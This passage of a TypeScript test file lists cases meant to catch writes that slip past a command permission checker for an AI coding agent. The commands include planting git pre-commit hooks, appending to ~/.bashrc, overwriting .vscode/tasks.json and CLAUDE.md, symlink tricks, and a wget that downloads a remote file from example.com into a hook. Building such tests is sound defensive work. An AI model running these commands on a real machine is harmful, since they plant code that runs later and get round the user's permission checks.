/**
 * Class 'write-target': where a command's write really goes. Writes to sensitive targets
 * (sensitive.ts, compared case-insensitively: anything under .git/ .vscode/ .agents/ .claude/
 * .husky/, .mcp.json, AGENTS.md/CLAUDE.md, package.json, pyproject.toml, Makefile, .npmrc, .env*,
 * .gitattributes, .gitmodules, *.code-workspace at any depth, .github/workflows/, shell profiles
 * and ~/.ssh, hard-linked files, anything outside the workspace) ask in every mode and can never
 * be remembered (`suggested: null`); ordinary writes are edits (ask in `ask` mode, allowed in
 * `auto-edit`/`full`, or by an edit_file/write_file rule).
 */
import type { BypassCase } from './types';

const BOTH: Array<'sh' | 'bash'> = ['sh', 'bash'];
/** A commit exists (git identity set in the repository's own config). */
const COMMIT = 'git config user.name a && git config user.email a@b && git add README.md && git commit -qm init';

export const WRITE_CASES: BypassCase[] = [
  // ── cd is followed: later relative writes resolve against the new folder ──────────────────
  {
    id: 'wr-cd-git-and-redirect', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd .git && echo x > hooks/pre-commit',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'agentcage/agentcage#170 (.git/hooks planted from inside the agent runs on the host); ours (cd tracking)',
  },
  {
    id: 'wr-cd-git-semicolon', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'cd .git; echo x > hooks/pre-commit', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (cd followed across `;`)',
  },
  {
    id: 'wr-cd-git-hooks-folder', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd .git/hooks && echo x > pre-push',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-push', 'x'] }] },
    source: 'cisco-ai-defense/defenseclaw#573 (ESC-GIT-HOOK-WRITE: writes to .git/hooks/<hook>)',
  },
  {
    id: 'wr-cd-vscode-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `cd .vscode && echo '{"x":1}' > settings.json`,
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', '"x"'] }] },
    source: 'ours (cd into .vscode, then a bare file name)',
  },
  {
    id: 'wr-cd-down-up-vscode', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd src && cd .. && cd .vscode && echo x > tasks.json',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/tasks.json', 'x'] }] },
    source: 'ours (a chain of cd, each resolved against the previous one)',
  },
  {
    id: 'wr-pushd-git', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'pushd .git && echo x > hooks/pre-commit',
    probe: { shells: ['bash'], effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (pushd is followed like cd; dash has no pushd, so bash only)',
  },
  {
    id: 'wr-subshell-cd-git', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: '(cd .git && echo x > hooks/post-checkout)',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/post-checkout', 'x'] }] },
    source: 'ours (cd inside a subshell)',
  },
  {
    id: 'wr-cd-parent-out', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd .. && echo x > out/pwned',
    probe: { shells: BOTH, effects: [{ contains: ['../out/pwned', 'x'] }] },
    source: 'ours (cd out of the workspace, then a relative write)',
  },
  {
    id: 'wr-cd-may-fail-both-folders', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd nothere || cd .git; echo x > hooks/pre-commit',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'COMMANDS.md ("a cd that may fail leaves both folders possible"); ours',
  },
  {
    id: 'wr-cd-git-then-tee', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'cd .git && echo x | tee hooks/pre-commit', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (cd also applies to write arguments, not only redirections)',
  },
  {
    id: 'wr-cd-hooks-then-cp', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd .git/hooks && cp ../../x/file pre-commit',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-cd-home-tilde', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd ~ && echo x >> .bashrc',
    probe: { shells: BOTH, effects: [{ contains: ['../home/.bashrc', 'x'] }] },
    source: 'claude-wiki.com/bash-security.html (echo "payload" > ~/.bashrc passes under Bash(echo:*)); ours (via cd ~)',
  },
  {
    // unclear: COMMANDS.md only speaks of cd with a static argument; after `cd "$HOME"` the folder of a
    // relative write is unknown. Safer reading: ask.
    id: 'wr-cd-dynamic-folder', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cd "$HOME" && echo x > .profile',
    probe: { shells: BOTH, effects: [{ contains: ['../home/.profile', 'x'] }] },
    source: 'kirodotdev/KiroCrew#8387 ($HOME spelling escaped a ~ rule); ours (a cd to a non-static folder leaves later writes unknown)',
  },

  // ── redirection forms and path spellings ──────────────────────────────────────────────────
  {
    id: 'wr-redirect-clobber', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x >| .vscode/settings.json',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'ours (>| overrides noclobber)',
  },
  {
    id: 'wr-redirect-amp-append', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x &>> .git/hooks/pre-commit',
    probe: { shells: ['bash'], effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (&>> is bash syntax; dash reads it as `&` then `>>`)',
  },
  {
    id: 'wr-redirect-read-write', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: ': <> .mcp.json',
    probe: { shells: BOTH, effects: [{ exists: '.mcp.json' }] },
    source: 'ours (<> opens for reading and writing and creates the file)',
  },
  {
    id: 'wr-redirect-stderr-agents-md', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'ls nothere 2> AGENTS.md',
    probe: { shells: BOTH, effects: [{ exists: 'AGENTS.md' }] },
    source: 'ours (a stderr redirection is a write too)',
  },
  {
    id: 'wr-redirect-nested-claude-md', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x > packages/foo/CLAUDE.md',
    probe: { shells: BOTH, effects: [{ contains: ['packages/foo/CLAUDE.md', 'x'] }] },
    source: 'sensitive.ts (rules files count at any depth)',
  },
  {
    id: 'wr-redirect-fd3', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x 3> .vscode/launch.json',
    probe: { shells: BOTH, effects: [{ exists: '.vscode/launch.json' }] },
    source: 'ours (N> opens the file even when nothing writes to fd N)',
  },
  {
    id: 'wr-redirect-dotdot-normalised', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x > src/../.vscode/settings.json',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'ours (the path is normalised before the sensitive check)',
  },
  {
    id: 'wr-redirect-double-slash', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x > ./.git//hooks/pre-commit',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-redirect-home-bashrc', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x >> ~/.bashrc', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['../home/.bashrc', 'x'] }] },
    source: 'claude-wiki.com/bash-security.html ("echo \\"payload\\" > ~/.bashrc passes the entire chain if the user has Bash(echo:*) allowed")',
  },
  {
    id: 'wr-redirect-outside-relative', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x > ../out/f', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['../out/f', 'x'] }] },
    source: 'sensitive.ts (anything outside the workspace)',
  },
  {
    id: 'wr-exec-redirects-rest', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'exec > .vscode/settings.json; echo x',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'COMMANDS.md (`exec` with redirections only redirects the rest of the script)',
  },
  {
    id: 'wr-heredoc-into-tasks', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `cat > .vscode/tasks.json <<'EOF'\n{"version":"2.0.0"}\nEOF`,
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/tasks.json', '2.0.0'] }] },
    source: 'ours (tasks.json can run code on folder open)',
  },
  {
    id: 'wr-redirect-in-for-body', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'for i in 1; do echo x > .git/hooks/pre-commit; done',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-redirect-in-if-body', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'if true; then echo x > CLAUDE.md; fi',
    probe: { shells: BOTH, effects: [{ contains: ['CLAUDE.md', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-redirect-on-group', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: '{ echo x; } > .mcp.json',
    probe: { shells: BOTH, effects: [{ contains: ['.mcp.json', 'x'] }] },
    source: 'ours (a redirection on a compound command)',
  },
  {
    id: 'wr-mkdir-claude-then-write', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `mkdir -p .claude && echo '{}' > .claude/settings.json`,
    probe: { shells: BOTH, effects: [{ exists: '.claude/settings.json' }] },
    source: 'sensitive.ts (.claude/); ours',
  },
  {
    id: 'wr-agents-skill-file', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'mkdir -p .agents/skills/x && echo x > .agents/skills/x/SKILL.md',
    probe: { shells: BOTH, effects: [{ contains: ['.agents/skills/x/SKILL.md', 'x'] }] },
    source: 'sensitive.ts (.agents/); ours',
  },
  {
    id: 'wr-git-diff-redirect-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'git diff > .vscode/settings.json', rules: ['allow run_command(git diff:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.vscode/settings.json' }] },
    source: 'ours (an allowed read-only verb redirected onto a sensitive file)',
  },

  // ── writes through arguments ─────────────────────────────────────────────────────────────
  {
    id: 'wr-tee-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x | tee .vscode/settings.json', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'microsoft/vscode chatAgentTools/browser/commandParsers/teeFileWriteParser.ts (tee targets are file writes)',
  },
  {
    id: 'wr-tee-append-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x | tee -a .git/hooks/pre-commit', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("tee output" is not read-only)',
  },
  {
    id: 'wr-tee-second-file', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x | tee out.txt AGENTS.md', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['AGENTS.md', 'x'] }] },
    source: 'ours (every tee operand is a target)',
  },
  {
    id: 'wr-cp-onto-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'cp src/a.ts .vscode/settings.json', rules: ['allow run_command(cp:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'export'] }] },
    source: 'ours',
  },
  {
    id: 'wr-cp-t-hooks', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'cp -t .git/hooks x/file', rules: ['allow run_command(cp:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/file' }] },
    source: 'ours (cp -t names the target folder first)',
  },
  {
    id: 'wr-cp-target-directory-long', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'cp --target-directory=.git/hooks x/file', rules: ['allow run_command(cp:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/file' }] },
    source: 'ours',
  },
  {
    id: 'wr-cp-into-hooks-folder', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cp x/file .git/hooks/',
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/file' }] },
    source: 'COMMANDS.md (a directory target counts as DIR/<name of each source>)',
  },
  {
    id: 'wr-cp-settings-into-vscode-folder', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cp tpl/settings.json .vscode/',
    probe: { shells: BOTH, setup: `mkdir -p tpl && echo '{"a":1}' > tpl/settings.json`, effects: [{ contains: ['.vscode/settings.json', '"a"'] }] },
    source: 'ours (.vscode/ itself is not sensitive, .vscode/<settings.json> is)',
  },
  {
    id: 'wr-cp-r-folder-into-git', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cp -r ../out/hooks .git/',
    probe: { shells: BOTH, setup: 'mkdir -p ../out/hooks && echo x > ../out/hooks/pre-commit', effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (recursive copy of a folder into .git/)',
  },
  {
    id: 'wr-mv-onto-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'mv src/a.ts .vscode/settings.json', rules: ['allow run_command(mv:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'export'] }, { missing: 'src/a.ts' }] },
    source: 'ours',
  },
  {
    id: 'wr-mv-into-hooks-folder', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'mv x/file .git/hooks/', rules: ['allow run_command(mv:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/file' }, { missing: 'x/file' }] },
    source: 'COMMANDS.md (directory target)',
  },
  {
    // unclear: COMMANDS.md lists mv as a write but not which ends; moving a sensitive file away changes it too.
    id: 'wr-mv-settings-away', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'mv .vscode/settings.json x/', rules: ['allow run_command(mv:*)'],
    probe: { shells: BOTH, effects: [{ missing: '.vscode/settings.json' }, { exists: 'x/settings.json' }] },
    source: 'ours (the source of mv is removed: a change of a sensitive file)',
  },
  {
    id: 'wr-install-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'install -m 755 x/file .git/hooks/pre-commit', rules: ['allow run_command(install:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-install-D-claude', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'install -D x/file .claude/settings.json',
    probe: { shells: BOTH, effects: [{ contains: ['.claude/settings.json', 'x'] }] },
    source: 'ours (install -D creates the missing folders)',
  },
  {
    id: 'wr-dd-of-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'dd if=x/file of=.git/hooks/pre-commit status=none', rules: ['allow run_command(dd:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("dd of=output" is not read-only)',
  },
  {
    id: 'wr-sed-i-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: `sed -i 's/{}/{"x":1}/' .vscode/settings.json`, rules: ['allow run_command(sed -i:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', '"x"'] }] },
    source: 'microsoft/vscode chatAgentTools/browser/commandParsers/sedFileWriteParser.ts (sed -i targets are writes)',
  },
  {
    id: 'wr-sed-in-place-long-suffix', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `sed --in-place=.bak 's/{}/{"y":1}/' .vscode/settings.json`,
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', '"y"'] }, { exists: '.vscode/settings.json.bak' }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("still rejects sed in-place editing", --in-place)',
  },
  {
    id: 'wr-git-diff-output-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'git diff --output=.git/hooks/pre-commit', rules: ['allow run_command(git diff:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/pre-commit' }] },
    source: 'cisco-ai-defense/defenseclaw#573 ("GitPwned: a read-only git verb with --output aimed at git metadata"); openai/codex is_safe_command.rs git_output_and_config_override_flags_are_not_safe',
  },
  {
    id: 'wr-git-log-output-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'git log --output=.vscode/settings.json -1',
    probe: { shells: BOTH, setup: COMMIT, effects: [{ contains: ['.vscode/settings.json', 'init'] }] },
    source: 'openai/codex is_safe_command.rs (git log --output=… is not safe); microsoft/vscode#329026 (git log/show --output)',
  },
  {
    id: 'wr-git-config-hookspath', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'git config core.hooksPath x', rules: ['allow run_command(git config:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/config', 'hooksPath'] }] },
    source: 'safedep/pmg#444 (core.hooksPath relocates the live hooks); anthropics/claude-code#61909',
  },
  {
    id: 'wr-git-config-alias', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `git config alias.st '!touch pwned'`,
    probe: { shells: BOTH, effects: [{ contains: ['.git/config', 'touch pwned'] }] },
    source: 'COMMANDS.md (git config writes .git/config)',
  },
  {
    id: 'wr-ln-s-then-write-hook', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'ln -s .git/hooks/pre-commit h && echo x > h',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'CopilotKit/OpenBot#73 (a write follows a symlink the checker did not resolve); COMMANDS.md (ln: both ends)',
  },
  {
    id: 'wr-ln-hard-then-write-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'ln .vscode/settings.json s && echo x > s',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'wazuh/wazuh#38267 (hard links are rejected like symlinks); ours',
  },
  {
    id: 'wr-ln-s-outside-folder', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'ln -s ../out o && echo x > o/pwned',
    probe: { shells: BOTH, effects: [{ contains: ['../out/pwned', 'x'] }] },
    source: 'CopilotKit/OpenBot#100 (a link to a folder outside the workspace)',
  },
  {
    id: 'wr-ln-s-into-hooks', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'ln -s ../../x/file .git/hooks/pre-commit', rules: ['allow run_command(ln:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ours (the link end inside .git/)',
  },
  {
    id: 'wr-ln-sf-replaces-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'ln -sf ../x/file .vscode/settings.json',
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-touch-tasks', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'touch .vscode/tasks.json', rules: ['allow run_command(touch:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.vscode/tasks.json' }] },
    source: 'ours',
  },
  {
    id: 'wr-touch-nested-agents-md', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'touch src/AGENTS.md',
    probe: { shells: BOTH, effects: [{ exists: 'src/AGENTS.md' }] },
    source: 'sensitive.ts (nested AGENTS.md files are read too)',
  },
  {
    id: 'wr-truncate-s0-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'truncate -s0 .git/hooks/pre-commit', rules: ['allow run_command(truncate:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/pre-commit' }] },
    source: 'ours (truncate creates the file)',
  },
  {
    id: 'wr-truncate-mcp', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'truncate -s 10 .mcp.json',
    probe: { shells: BOTH, effects: [{ exists: '.mcp.json' }] },
    source: 'ours',
  },
  {
    id: 'wr-sort-o-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'sort -o .vscode/settings.json src/a.ts', rules: ['allow run_command(sort:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'export'] }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("sort -o output input", "sort -roout input")',
  },
  {
    id: 'wr-uniq-output-operand', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'uniq src/a.ts .git/hooks/pre-commit', rules: ['allow run_command(uniq:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'export'] }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("uniq input output")',
  },
  {
    // unclear: xxd is not in COMMANDS.md's write list, so by the letter this write is unknown; its second
    // operand is an output file (xxd(1)). Safer reading: ask (see report).
    id: 'wr-xxd-outfile-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'xxd README.md .git/hooks/pre-commit', rules: ['allow run_command(xxd:*)'],
    probe: { shells: BOTH, effects: [{ exists: '.git/hooks/pre-commit' }] },
    source: 'xxd(1) ("xxd [options] [infile [outfile]]"); ours',
  },
  {
    id: 'wr-curl-o-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'curl -s -o .vscode/settings.json https://example.com/x',
    probe: { shells: BOTH, command: 'curl -s -o .vscode/settings.json "file://$PWD/src/a.ts"', effects: [{ contains: ['.vscode/settings.json', 'export'] }] },
    source: 'jestasecurity/thumper#32 (curl -o wrote through a planted path); the probe uses a file:// URL instead of the network',
  },
  {
    id: 'wr-wget-O-hook', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'wget -q -O .git/hooks/pre-commit https://example.com/x',
    noProbe: 'the payload needs the network (wget has no file:// scheme)',
    source: 'COMMANDS.md (wget -O is a write); ours',
  },
  {
    id: 'wr-chmod-x-hook', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'chmod +x .git/hooks/pre-commit', rules: ['allow run_command(chmod:*)'],
    probe: {
      shells: BOTH,
      setup: `printf '#!/bin/sh\\ntouch ran\\n' > .git/hooks/pre-commit`,
      command: 'chmod +x .git/hooks/pre-commit && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x',
      effects: [{ exists: 'ran' }],
    },
    source: 'AlexanderMattTurner/claude-automation-template#56 (agents chmod git hooks); the probe commits to show the hook now runs',
  },
  {
    id: 'wr-rm-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'rm .vscode/settings.json', rules: ['allow run_command(rm:*)'],
    probe: { shells: BOTH, effects: [{ missing: '.vscode/settings.json' }] },
    source: 'COMMANDS.md (rm is a write of its operands)',
  },
  {
    id: 'wr-find-fprint-hook', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'find . -maxdepth 1 -name README.md -fprint .git/hooks/pre-commit',
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'README.md'] }] },
    source: 'openai/codex is_safe_command.rs (find -fprint writes pathnames to a file)',
  },
  {
    id: 'wr-find-delete-under-git', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `find .git/hooks -name '*.sample' -delete`,
    probe: { shells: BOTH, effects: [{ missing: '.git/hooks/pre-commit.sample' }] },
    source: 'mofa-org/mofa#1156 (find -delete removes files without confirmation)',
  },
  {
    id: 'wr-tar-x-into-hooks', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'tar -xf ../out/a.tar -C .git/hooks', rules: ['allow run_command(tar:*)'],
    probe: { shells: BOTH, setup: 'tar -cf ../out/a.tar -C x file', effects: [{ exists: '.git/hooks/file' }] },
    source: 'COMMANDS.md (tar -x writes its folder, here .git/hooks)',
  },
  {
    // unclear: COMMANDS.md counts tar -x as a write to its folder (`.`, not sensitive) and would allow
    // this in auto-edit, yet the archive can hold .vscode/settings.json or .git/hooks/*. Safer: ask.
    id: 'wr-tar-x-workspace-root', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'tar -xf ../out/t.tar', rules: ['allow run_command(tar:*)'],
    probe: {
      shells: BOTH,
      setup: `mkdir -p ../out/t/.vscode && echo '{"t":1}' > ../out/t/.vscode/settings.json && tar -cf ../out/t.tar -C ../out/t .vscode`,
      effects: [{ contains: ['.vscode/settings.json', '"t"'] }],
    },
    source: 'ours (an archive extracted into the root replaces .vscode/settings.json)',
  },
  {
    id: 'wr-unzip-d-hooks', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'unzip -o -q ../out/a.zip -d .git/hooks', rules: ['allow run_command(unzip:*)'],
    probe: { shells: BOTH, setup: 'cd x && zip -q ../../out/a.zip file', effects: [{ exists: '.git/hooks/file' }] },
    source: 'gtfoargs.github.io/gtfoargs/unzip (-d changes where files land)',
  },
  {
    // unclear: patch writes files named inside the diff; COMMANDS.md counts it as a write to its folder only.
    id: 'wr-patch-touches-settings', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'patch -s -p1 < ../out/p.diff', rules: ['allow run_command(patch:*)'],
    probe: {
      shells: BOTH,
      setup: `mkdir -p ../out/a/.vscode ../out/b/.vscode && echo '{}' > ../out/a/.vscode/settings.json && echo '{"p":1}' > ../out/b/.vscode/settings.json && (cd ../out && diff -ru a b > p.diff; true)`,
      effects: [{ contains: ['.vscode/settings.json', '"p"'] }],
    },
    source: 'ours (the file list of a patch is in its input, not on the command line)',
  },

  // ── interpreters and script languages writing files (not analysable: ask in every mode) ────
  {
    id: 'wr-python-c-settings', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `python3 -c "open('.vscode/settings.json','w').write('x')"`,
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'ytrofr.github.io/claude-code-guide security checklist (interpreters run anything); COMMANDS.md (python -c)',
  },
  {
    id: 'wr-node-e-hook', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `node -e "require('fs').writeFileSync('.git/hooks/pre-commit','x')"`,
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'x'] }] },
    source: 'ytrofr.github.io/claude-code-guide (Bash(node *) → node -e "require(\'child_process\')…"); COMMANDS.md (node -e)',
  },
  {
    id: 'wr-perl-e-claude-md', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `perl -e 'open(my $f, ">", "CLAUDE.md"); print $f "x"'`,
    probe: { shells: BOTH, effects: [{ contains: ['CLAUDE.md', 'x'] }] },
    source: 'COMMANDS.md (perl -e)',
  },
  {
    id: 'wr-awk-print-to-mcp', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `awk 'BEGIN{print "x" > ".mcp.json"}'`,
    probe: { shells: BOTH, effects: [{ contains: ['.mcp.json', 'x'] }] },
    source: 'QwenLM/qwen-code shellReadOnlyChecker.test.ts ("rejects awk with file output redirection")',
  },
  {
    id: 'wr-sed-w-command-hook', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `sed -n 'w .git/hooks/pre-commit' README.md`,
    probe: { shells: BOTH, effects: [{ contains: ['.git/hooks/pre-commit', 'fixture'] }] },
    source: 'microsoft/vscode#329216 (sed w/W commands write files)',
  },

  // ── ordinary writes: edits, judged by mode and edit rules ──────────────────────────────────
  {
    id: 'wr-edit-allowed-in-auto-edit', class: 'write-target', mode: 'auto-edit', expect: 'allow',
    command: 'echo x > out.txt', rules: ['allow run_command(echo:*)'],
    source: 'COMMANDS.md step 8 (auto-edit allows writes)',
  },
  {
    id: 'wr-edit-asks-in-ask-mode', class: 'write-target', expect: 'ask',
    command: 'echo x > out.txt', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['out.txt', 'x'] }] },
    source: 'COMMANDS.md step 8 (ask mode: writes ask unless an edit rule allows them)',
  },
  {
    id: 'wr-npm-test-redirect-ask-mode', class: 'write-target', expect: 'ask',
    command: 'npm test > out.txt', rules: ['allow run_command(npm test:*)'],
    probe: { shells: BOTH, setup: `printf 'offline=true\\nupdate-notifier=false\\n' > ../home/.npmrc`, effects: [{ exists: 'out.txt' }] },
    source: 'ours (the allowed command is fine, its redirection is an edit)',
  },
  {
    id: 'wr-mkdir-allowed-auto-edit', class: 'write-target', mode: 'auto-edit', expect: 'allow',
    command: 'mkdir -p build', rules: ['allow run_command(mkdir:*)'],
    source: 'microsoft/vscode terminalChatAgentToolsConfiguration.ts (example `"mkdir": true`)',
  },
  {
    id: 'wr-edit-rule-allows-target', class: 'write-target', expect: 'allow',
    command: 'echo x > src/out.txt', rules: ['allow run_command(echo:*)', 'allow edit_file(src/**)'],
    source: 'COMMANDS.md step 8 (an edit_file rule allows the target)',
  },
  {
